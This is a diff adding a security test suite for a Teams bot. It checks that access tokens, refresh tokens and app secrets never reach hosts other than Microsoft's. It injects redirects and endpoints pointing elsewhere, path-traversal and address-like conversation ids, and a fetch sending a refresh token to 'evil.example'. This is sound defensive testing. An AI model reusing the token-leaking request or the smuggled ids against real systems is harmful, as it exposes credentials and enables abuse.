@@ -1,0 +1,223 @@
+import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest'
+import { signInUrl } from '../../emulator/channel/actions.ts'
+import type { Chat } from '../../emulator/channel/chat.ts'
+import type { Fault } from '../../emulator/faults.ts'
+import { alex, megan } from '../../emulator/people.ts'
+import { en } from '../../src/text/en.ts'
+import { readable, signInWith, startWorld, type World } from '../world.ts'
+import { BESIDE, ELSEWHERE, HOSTS } from './elsewhere.ts'
+import { recorder, type Recorder } from './recorder.ts'
+
+/** `ATTACKS=all`: every address at every place. */
+const ALL = process.env['ATTACKS'] === 'all'
+
+let record: Recorder
+let world: World
+let chat: Chat
+let secrets: string[]
+
+beforeAll(async () => {
+  record = await recorder()
+  world = await startWorld()
+  chat = world.emulator.channel.personal(megan)
+  const { MicrosoftAppPassword = '', OAUTH_CLIENT_SECRET = '' } = world.emulator.settings(world.publicUrl)
+  secrets = [MicrosoftAppPassword, OAUTH_CLIENT_SECRET]
+})
+afterAll(async () => {
+  await world.close()
+  await record.stop()
+})
+
+afterEach(() => {
+  world.emulator.faults.clear()
+  expect(abroad()).toEqual([])
+  expect(astray()).toEqual([])
+  record.clear()
+})
+
+const here = (address: string): string => {
+  const { host, port } = new URL(world.emulator.origin)
+  return address.replaceAll('{host}', host).replaceAll('{port}', port)
+}
+
+/** Connections to anybody but the emulator and the bot. */
+function abroad(): string[] {
+  const { port, host } = new URL(world.publicUrl)
+  const known = [new URL(world.emulator.origin).host, host, `127.0.0.1:${port}`]
+  return record.connections.map(({ to }) => to).filter((to) => !known.includes(to))
+}
+
+/** Where a token or secret that the emulator has given out may be seen: Microsoft's own place for it. */
+function astray(): string[] {
+  const answers = record.answered.join('')
+  const issued = (name: string) =>
+    [...answers.matchAll(new RegExp(`"${name}":"([^"]+)"`, 'g'))].map(([, token = '']) => token)
+  const { host } = new URL(world.emulator.origin)
+  // A person's token is opaque; the bot's own is a JWT.
+  const places: [string[], RegExp][] = [
+    [issued('access_token').filter((token) => !token.includes('.')), /^\/v1\.0\//],
+    [issued('access_token').filter((token) => token.includes('.')), /^\/teams\/v3\//],
+    [[...issued('refresh_token'), ...secrets], /^\/[0-9a-f-]{36}\/oauth2\/v2\.0\/token$/],
+  ]
+  return record.requests().flatMap(({ to, path, text }) => {
+    const isRight = (place: RegExp) => to === host && place.test(path)
+    const isWrong = places.some(([values, place]) => !isRight(place) && values.some((value) => text.includes(value)))
+    return isWrong ? [`${to} ${path}`] : []
+  })
+}
+
+/** The bot's last message, once it has answered; nothing is waited for. */
+async function answer(text: string): Promise<string> {
+  await chat.send(text)
+  return readable(chat.messages.findLast(({ from }) => from === 'bot'))
+}
+
+/** A sign-in's page at its end; what the chat is told comes later. */
+async function signIn(person = megan): Promise<string> {
+  const of = world.emulator.channel.personal(person)
+  await of.send('connect')
+  const card = of.messages.findLast((message) => signInUrl(message) !== undefined)
+  return (await signInWith(card, person)).text
+}
+
+/** Every fourth of them, unless all are wanted: every address is tried at one place in any case. */
+const some = (addresses: readonly string[]) => addresses.filter((_, n) => ALL || n % 4 === 0)
+
+/** What came of each address, told apart from the others. */
+async function each(addresses: readonly string[], visit: (address: string) => Promise<string>, says: string) {
+  for (const address of addresses) {
+    const said = await visit(here(address))
+    expect([address, said]).toEqual([address, expect.stringContaining(says)])
+  }
+}
+
+describe('S52 tokens only to their host: before anybody is connected', () => {
+  test('S52 discovery calls Graph’s host something else', async () => {
+    const visit = async (host: string) => {
+      world.emulator.entra.setMsgraphHost(host)
+      return signIn()
+    }
+    await each(HOSTS, visit, en.signInFailed.no_graph)
+    world.emulator.entra.setMsgraphHost(new URL(world.emulator.origin).host)
+  })
+
+  test('S52 discovery names an endpoint elsewhere', async () => {
+    const visit = async (address: string) => {
+      const name = ['token_endpoint', 'jwks_uri', 'authorization_endpoint'][visits++ % 3] ?? ''
+      world.emulator.faults.add({ match: 'discovery', times: 1, merge: { [name]: address } })
+      return signIn()
+    }
+    let visits = 0
+    await each(ELSEWHERE, visit, en.signInFailed.untrusted)
+  })
+
+  test('S52 discovery is answered with a redirect elsewhere', async () => {
+    for (const fault of redirects('discovery')) {
+      world.emulator.faults.add(fault)
+      expect(await signIn()).toContain(en.signInFailed.unavailable)
+    }
+  })
+})
+
+describe('S52 tokens only to their host: once connected', () => {
+  beforeAll(async () => {
+    await signIn()
+    await chat.settled()
+    // What all the apologies below are held against.
+    expect(await answer('find contact Alice')).toContain('Alice Admin')
+  })
+
+  test.each(['contacts', 'contactFolders'])('S52 a page of %s leads on elsewhere', async (list) => {
+    const match = new RegExp(`^GET /v1.0/me/${list}\\?`)
+    const visit = async (link: string) => {
+      world.emulator.faults.add({ match, times: 1, merge: { '@odata.nextLink': link, '@odata.deltaLink': link } })
+      return await answer('find contact Alice')
+    }
+    const addresses = [...ELSEWHERE, ...BESIDE]
+    await each(list === 'contacts' ? addresses : some(addresses), visit, en.trouble.contacts_down)
+  })
+
+  test('S52 Graph redirects elsewhere', async () => {
+    for (const fault of redirects('graph')) {
+      world.emulator.faults.add(fault)
+      expect(await answer('find contact Alice')).toContain(en.trouble.contacts_down)
+    }
+  })
+
+  test('S52 the token endpoint redirects elsewhere, at a renewal', async () => {
+    for (const fault of redirects('token')) {
+      world.emulator.entra.expireAccessTokens()
+      world.emulator.faults.add(fault)
+      expect(await answer('find contact Alice')).toContain(en.trouble.microsoft_sign_in_down)
+    }
+  })
+
+  test('S52 the token endpoint redirects elsewhere, for a code and for the bot itself', async () => {
+    const code = redirects('token')[3]
+    if (!code) throw new Error('No fault')
+    world.emulator.faults.add(code)
+    expect(await signIn(alex)).toContain(en.signInFailed.unavailable)
+    await world.emulator.channel.personal(alex).settled()
+    for (const fault of redirects('token')) {
+      // Where its token is refused, the bot fetches another.
+      world.emulator.faults.add({ match: 'channel', times: 1, status: 401 })
+      world.emulator.faults.add(fault)
+      expect((await chat.send('help')).status).toBe(502)
+    }
+  })
+
+  test('S52 the channel redirects elsewhere', async () => {
+    for (const fault of redirects('channel')) {
+      world.emulator.faults.add(fault)
+      expect((await chat.send('help')).status).toBe(502)
+    }
+  })
+
+  test('S52 an activity asks for its answer elsewhere, with a token that says so too', async () => {
+    for (const address of [...ELSEWHERE.filter((address) => !isLoopback(address)), '', 'evil.example', 'http:evil']) {
+      const serviceurl = here(address)
+      const authorization = `Bearer ${await world.emulator.channel.sign({ serviceurl })}`
+      const activity = chat.compose('help', { serviceUrl: serviceurl })
+      const { status } = await chat.sendRaw(activity, { authorization })
+      expect([serviceurl, status]).toEqual([serviceurl, expect.toBeOneOf([400, 403])])
+    }
+  })
+
+  test('S52 a conversation and a message with an address for an id', async () => {
+    for (const id of [
+      '//evil.example',
+      '../../../evil',
+      '@evil.example',
+      'http://evil.example/',
+      '\\\\evil.example',
+      '?x#y',
+    ]) {
+      const activity = chat.compose('help')
+      const conversation = { ...(activity['conversation'] as object), id }
+      await chat.redeliver(activity, { conversation, replyToId: id, value: { command: 'help' } })
+    }
+    expect(record.requests().some(({ path }) => path.startsWith('/teams/v3/conversations/..%2F'))).toBe(true)
+  })
+})
+
+/** The addresses in a Location, by each of the statuses that lead there. */
+function redirects(match: 'graph' | 'token' | 'discovery' | 'channel'): Fault[] {
+  const locations = some([...ELSEWHERE, ...BESIDE].filter((address) => /^[\x21-\x7e]+$/.test(address))).map(here)
+  const statuses = [301, 302, 303, 307, 308]
+  return locations.map((location, n) => ({ match, times: 1, status: statuses[n % 5] ?? 307, headers: { location } }))
+}
+
+/** Where the emulator is the channel, any port of this machine may be answered by http. */
+const isLoopback = (address: string) =>
+  /^http:\/\/(?:127\.0\.0\.1|localhost|\[::1\])[:/]/i.test(address) && URL.canParse(here(address))
+
+test('S52 the recorder sees what goes astray', async () => {
+  const [, token = ''] = /"refresh_token":"([^"]+)"/.exec(record.answered.join('')) ?? []
+  const headers = { authorization: `Bearer ${token}` }
+  await fetch('http://evil.example/a', { headers })
+  await fetch(`${world.emulator.origin}/b`, { headers })
+  await expect(fetch('https://evil.example/c', { headers })).rejects.toThrow('fetch failed')
+  expect(abroad()).toEqual(['evil.example:80', 'evil.example:443'])
+  expect(astray()).toEqual(['evil.example:80 /a', `${new URL(world.emulator.origin).host} /b`])
+  record.clear()
+})
